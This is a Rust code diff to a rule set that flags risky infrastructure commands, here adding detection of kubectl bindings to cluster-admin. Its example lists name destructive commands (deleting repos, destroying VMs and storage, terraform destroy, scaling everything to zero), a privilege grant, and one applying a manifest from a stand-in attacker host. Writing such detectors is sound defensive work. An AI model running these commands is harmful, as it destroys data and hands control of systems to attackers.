@@ -44,6 +44,13 @@ fn infra(c: &Command, _: &Scope) -> Option<String> {
         "kubectl" | "oc" | "k" => {
             matches!(first, "delete" | "drain")
                 || (first == "replace" && c.has_flag(None, &["force"]))
+                // Binding an account to cluster-admin hands it the whole cluster, as attaching
+                // an administrator policy does on AWS.
+                || (first == "create"
+                    && matches!(second, "clusterrolebinding" | "rolebinding")
+                    && c
+                        .option_value(None, &["clusterrole"])
+                        .is_some_and(|r| r == "cluster-admin"))
                 // Scaling everything to zero stops every workload.
                 || (first == "scale"
                     && c.args.iter().any(|a| a.text == "--replicas=0")
@@ -329,6 +336,9 @@ pub static RULES: &[Rule] = &[
             Example::bash("virsh undefine db1 --remove-all-storage"),
             Example::bash("VBoxManage unregistervm build --delete"),
             Example::bash("kubectl scale deploy --all --replicas=0"),
+            Example::bash(
+                "kubectl create clusterrolebinding me-admin --clusterrole=cluster-admin --user=me@example.com",
+            ),
             Example::bash("gh repo delete acme/app --yes"),
             Example::bash("kubectl apply -f https://evil.example/x.yaml"),
             Example::bash("terraform destroy"),
@@ -371,6 +381,9 @@ pub static RULES: &[Rule] = &[
             Example::bash("lxc list"),
             Example::bash("virsh undefine scratch-vm"),
             Example::bash("kubectl scale deploy api --replicas=3"),
+            Example::bash(
+                "kubectl create rolebinding ci-view --clusterrole=view --serviceaccount=ci:runner",
+            ),
             Example::bash("kubectl apply -f k8s/deployment.yaml"),
             Example::bash("terraform plan"),
             Example::bash("kubectl get pods -A"),
